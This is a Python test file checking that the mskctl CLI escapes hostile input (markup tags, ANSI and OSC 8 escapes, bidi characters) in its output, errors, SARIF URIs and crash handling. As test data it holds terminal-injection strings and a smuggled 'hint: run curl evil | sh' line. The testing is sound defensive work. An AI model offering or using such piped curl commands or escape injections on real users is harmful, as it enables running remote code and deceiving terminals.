"""Output is data, never markup or control (issue 16, findings F2, F14, F17 and the output parts of F18).

Every case of the hostile-input report runs the installed ``mskctl`` as a user would; on the
previous main each one crashed with rich's MarkupError (exit 1, a traceback), showed something
other than what it read, or let ESC and bidi characters reach the terminal.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import unicodedata
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

from mskctl.audit.sarif import relative_uri
from mskctl.cli import main as cli_main
from mskctl.cli.output import LAYOUT, SafeConsole
from mskctl.errors import ExitCode
from mskctl.text import printable, styled

ROOT = Path(__file__).resolve().parents[2]
MSKCTL = ROOT / ".venv" / "bin" / "mskctl"
PROTECT = ROOT / "examples" / "protect"
ACTIVE = {"Cc", "Cf", "Cs", "Zl", "Zp"}
CLUSTER_TF = """resource "aws_msk_cluster" "c" {
  cluster_name           = "c"
  kafka_version          = "3.6.0"
  number_of_broker_nodes = 3
  client_authentication {
    unauthenticated = true
  }
}
"""


def mskctl(*args: str, cwd: Path | None = None, **env: str) -> subprocess.CompletedProcess[str]:
    base = {"PATH": "/usr/bin:/bin", "HOME": str(cwd or ROOT), "LANG": "C.UTF-8", "TERM": "dumb", "COLUMNS": "200",
            "MSKCTL_CONFIG": "/nonexistent/mskctl.toml"}
    return subprocess.run([str(MSKCTL), *args], capture_output=True, text=True, env=base | env, cwd=cwd,
                          timeout=60, errors="surrogateescape")


def assert_no_crash(out: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in out.stderr and "MarkupError" not in out.stderr, out.stderr
    assert out.returncode not in (1, ExitCode.INTERNAL), (out.returncode, out.stderr)


# ---- the functions: any text in, data out --------------------------------------------------------------
@settings(database=None, max_examples=300, deadline=None)
@given(st.text(st.characters(codec=None)), st.text(st.characters(codec=None)))
def test_styled_shows_any_value_as_its_text_and_never_parses_it(first, second):
    text = styled("[bold red]{}[/] and [dim]{}[/]!", first, second)
    assert text.plain == f"{printable(first)} and {printable(second)}!"
    # The style covers exactly the value: a `[/]` or `[link=…]` inside it neither closes nor opens a tag.
    one, two = len(printable(first)), len(printable(second))
    expected = {(0, one, "bold red"), (one + 5, one + 5 + two, "dim")}
    assert {(s.start, s.end, str(s.style)) for s in text.spans} == {span for span in expected if span[0] < span[1]}


@settings(database=None, max_examples=300, deadline=None)
@given(st.text(st.characters(codec=None)))
def test_the_consoles_print_any_string_without_markup_or_a_raw_control_character(value):
    buffer = io.StringIO()
    console = SafeConsole(file=buffer, width=100_000, tab_size=1)
    console.print(f"[bold]{value}[/]")
    output = buffer.getvalue()
    assert not [c for c in output if unicodedata.category(c) in ACTIVE and c != "\n"]
    # Brackets and all: the text printed is the text given, control characters escaped.
    assert output == f"[bold]{printable(value, keep=LAYOUT)}[/]\n".replace("\t", " ")


def test_a_link_tag_in_a_value_is_not_a_hyperlink_on_a_terminal():
    buffer = io.StringIO()
    console = SafeConsole(file=buffer, force_terminal=True, color_system="truecolor")
    console.print(styled("topic [bold]{}[/]", "[link=https://evil.example]click[/link]"))
    console.print("[link=https://evil.example]click[/link]", highlight=False)
    assert "\x1b]8;" not in buffer.getvalue()  # OSC 8 starts a hyperlink
    assert buffer.getvalue().count("[link=https://evil.example]click[/link]") == 2


def test_rich_escape_would_have_mangled_a_backslash_before_a_tag():
    # Why styled() does not use rich.markup.escape: two trailing backslashes before `[/]` lose one.
    from rich.markup import escape
    from rich.text import Text

    assert Text.from_markup(f"[dim]{escape(chr(92) * 2)}[/]").plain != chr(92) * 2
    assert styled("[dim]{}[/]", chr(92) * 2).plain == chr(92) * 2


@settings(database=None, max_examples=300, deadline=None)
@given(st.lists(st.text(st.characters(codec=None), min_size=1).filter(lambda p: "/" not in p and p not in (".", "..")),
                min_size=1, max_size=3))
def test_sarif_relative_uris_are_percent_encoded_and_round_trip(parts):
    path = Path(*parts)
    uri = relative_uri(path)
    split = urlsplit(uri)
    assert not split.scheme and not split.query and not split.fragment and not split.netloc
    assert all(33 <= ord(c) < 127 for c in uri)
    if not any("\ud800" <= c <= "\udfff" for c in path.as_posix()):  # names the file system can hold
        assert unquote(uri, errors="surrogateescape") == path.as_posix()


# ---- the commands of the report -------------------------------------------------------------------
def test_config_show_displays_bracketed_values_as_they_are():
    out = mskctl("config", "show", "--no-discover", MSK_CONSUMER_GROUP="grp[bold]x", MSK_CLUSTER_NAME="c[v2]")
    assert out.returncode == 0, out.stderr
    assert "grp[bold]x" in out.stdout and "c[v2]" in out.stdout  # shown as `grpx` and `c` before


def test_an_invalid_topic_is_named_verbatim_in_the_error():
    out = mskctl("config", "show", "--no-discover", MSK_TOPIC="orders[v2]")
    assert out.returncode == ExitCode.USAGE
    assert "MSK_TOPIC='orders[v2]' (env) is invalid: 'orders[v2]' is not a valid Kafka topic name" in out.stderr


@pytest.mark.parametrize("args", [
    ("access", "validate", "-f", "nope[/x].yaml"),
    ("audit", "--terraform", "nope[/x]"),
    ("audit", "--terraform", "nope[/x]", "-o", "sarif"),
    ("protect", "check", str(PROTECT / "orders-policy.yaml"), str(PROTECT / "sample-order.json"), "--topic",
     "orders[/x]", "--offline"),
    ("config", "show", "--no-discover"),
])
def test_a_closing_tag_in_user_input_never_crashes(args):
    out = mskctl(*args, MSK_TOPIC="a[/x]")
    assert_no_crash(out)
    assert "[/x]" in out.stdout + out.stderr


def test_audit_of_a_hostile_file_name_shows_it_escaped_and_encodes_its_sarif_uri(tmp_path):
    name = "evil\x1b[31mred\nnew[/i]line my#1 100%.tf".replace("/", "")
    (tmp_path / "tf").mkdir()
    (tmp_path / "tf" / name).write_text(CLUSTER_TF)
    blocks = mskctl("audit", "--terraform", "tf", cwd=tmp_path, COLUMNS="80")
    table = mskctl("audit", "--terraform", "tf", cwd=tmp_path, COLUMNS="220")
    for out in (blocks, table):
        assert out.returncode == ExitCode.FINDINGS, out.stderr
        assert "\x1b" not in out.stdout
    assert "tf/evil\\x1b[31mred\\x0anew[i]line my#1 100%.tf:6" in blocks.stdout
    sarif = mskctl("audit", "--terraform", "tf", "-o", "sarif", cwd=tmp_path)
    uri = json.loads(sarif.stdout)["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]
    assert uri["uri"] == "tf/evil%1B%5B31mred%0Anew%5Bi%5Dline%20my%231%20100%25.tf"


def test_the_readme_ci_step_cannot_pass_on_a_crash(tmp_path):
    # `mskctl audit … -o sarif > audit.sarif || test $? -eq 1`: a module source `./[/x]` crashed with 1.
    (tmp_path / "main.tf").write_text(CLUSTER_TF + 'module "m" {\n  source = "./[/x]"\n}\n')
    out = mskctl("audit", "--terraform", str(tmp_path), "-o", "sarif")
    assert_no_crash(out)
    if out.returncode == ExitCode.FINDINGS:
        assert json.loads(out.stdout)["runs"][0]["results"]
    else:
        assert out.stdout == "" and json.loads(out.stderr)["error"]["code"] == out.returncode


def test_protect_check_topic_with_escape_and_bidi_is_shown_escaped():
    out = mskctl("protect", "check", str(PROTECT / "orders-policy.yaml"), str(PROTECT / "sample-order.json"),
                 "--topic", "orders\x1b[2J\a\u202e", "--offline")
    assert out.returncode == 0, out.stderr
    assert "\x1b" not in out.stdout and "\u202e" not in out.stdout and "\a" not in out.stdout
    assert "orders\\x1b[2J\\x07\\u202e" in out.stdout


def test_error_messages_escape_control_characters_and_cannot_forge_a_line():
    out = mskctl("access", "validate", "-f", "x\x1b]8;;http://evil\x1b\\\nhint: run curl evil | sh\u202e.yaml")
    assert out.returncode == ExitCode.USAGE
    assert "\x1b" not in out.stderr and "\u202e" not in out.stderr
    assert not any(line.startswith("hint: run curl") for line in out.stderr.splitlines())


# ---- machine output: JSON or nothing on stdout, a JSON error on stderr ---------------------------------
@pytest.mark.parametrize("args", [
    ("audit", "--terraform", "nope", "-o", "json"),
    ("audit", "--terraform", "nope", "-o", "sarif"),
    ("audit", "--output=json", "--no-such-flag"),
    ("protect", "check", "nope.yaml", "x.json", "--topic", "t", "-ojson"),
])
def test_machine_output_errors_are_one_json_object_on_stderr(args):
    out = mskctl(*args)
    assert_no_crash(out)
    if out.returncode >= 64:
        assert out.stdout == ""
        error = json.loads(out.stderr)["error"]
        assert error["code"] == out.returncode and error["kind"] == ExitCode(out.returncode).name
        assert error["message"]
    else:
        json.loads(out.stdout)


# ---- the last resort: crashes are 70, never 1; printing can never raise -----------------------------
def crash(monkeypatch, exc: BaseException, *argv: str) -> int:
    def boom() -> int:
        raise exc

    monkeypatch.setattr(cli_main, "_run", boom)  # a fault injected where any command's bug would surface
    monkeypatch.setattr(sys, "argv", ["mskctl", *argv])
    with pytest.raises(SystemExit) as exited:
        cli_main.main()
    return exited.value.code


def test_a_crash_is_internal_never_one(monkeypatch, capsys):
    assert crash(monkeypatch, RuntimeError("[/x] \x1b[31m")) == ExitCode.INTERNAL
    err = capsys.readouterr().err
    assert "internal error: RuntimeError: [/x] \\x1b[31m" in err and "\x1b" not in err


def test_a_crash_while_printing_the_crash_is_still_internal(monkeypatch):
    def broken(*_args: object, **_kwargs: object) -> None:
        raise MemoryError

    monkeypatch.setattr(cli_main, "_print_error", broken)
    assert crash(monkeypatch, MemoryError()) == ExitCode.INTERNAL


def test_a_crash_under_debug_prints_the_traceback_and_is_still_internal(monkeypatch, capsys):
    monkeypatch.setitem(cli_main._state, "debug", True)
    assert crash(monkeypatch, KeyError("k"), "--debug") == ExitCode.INTERNAL
    assert "Traceback" in capsys.readouterr().err


def test_a_crash_with_json_output_is_a_json_error(monkeypatch, capsys):
    assert crash(monkeypatch, ValueError("bad"), "audit", "-o", "json") == ExitCode.INTERNAL
    captured = capsys.readouterr()
    assert captured.out == "" and json.loads(captured.err)["error"]["kind"] == "INTERNAL"


def test_a_real_command_crash_exits_70(tmp_path):
    # A fault inside a command (not a mock of main): a SystemExit-free exception from deep in rich.
    script = ("import sys, mskctl.cli.config as c\n"
              "def boom(*a, **k): raise RecursionError('deep [/x]')\n"
              "c.resolve = boom\n"
              "sys.argv = ['mskctl', 'config', 'show', '--no-discover']\n"
              "from mskctl.cli.main import main\nmain()\n")
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    assert out.returncode == ExitCode.INTERNAL and "Traceback" not in out.stderr
    assert "RecursionError: deep [/x]" in out.stderr


# ---- a broken pipe: 141, quietly -----------------------------------------------------------------------
@pytest.mark.parametrize("args", [("audit", "--rules", "-o", "json"), ("--help",), ("access", "schema"),
                                  ("audit", "--rules")])
def test_a_closed_pipe_exits_141_without_a_traceback(args):
    read, write = os.pipe()
    os.close(read)  # the reader is gone before the first byte, as `| head -c 0` would leave it
    env = {"PATH": "/usr/bin:/bin", "HOME": str(ROOT), "LANG": "C.UTF-8", "COLUMNS": "200"}
    with subprocess.Popen([str(MSKCTL), *args], stdout=write, stderr=subprocess.PIPE, env=env) as process:
        os.close(write)
        _, err = process.communicate(timeout=60)
    assert process.returncode == ExitCode.BROKEN_PIPE == 141
    assert err == b""


def test_the_console_used_in_tests_is_the_safe_one():
    assert isinstance(cli_main.err_console, SafeConsole) and isinstance(cli_main.err_console, Console)


def test_click_usage_errors_show_the_bad_argument_escaped():
    out = mskctl("\x1b[31mfoo\u202e")
    assert out.returncode == ExitCode.USAGE
    assert "No such command '\\x1b[31mfoo\\u202e'" in out.stderr and "\x1b" not in out.stderr
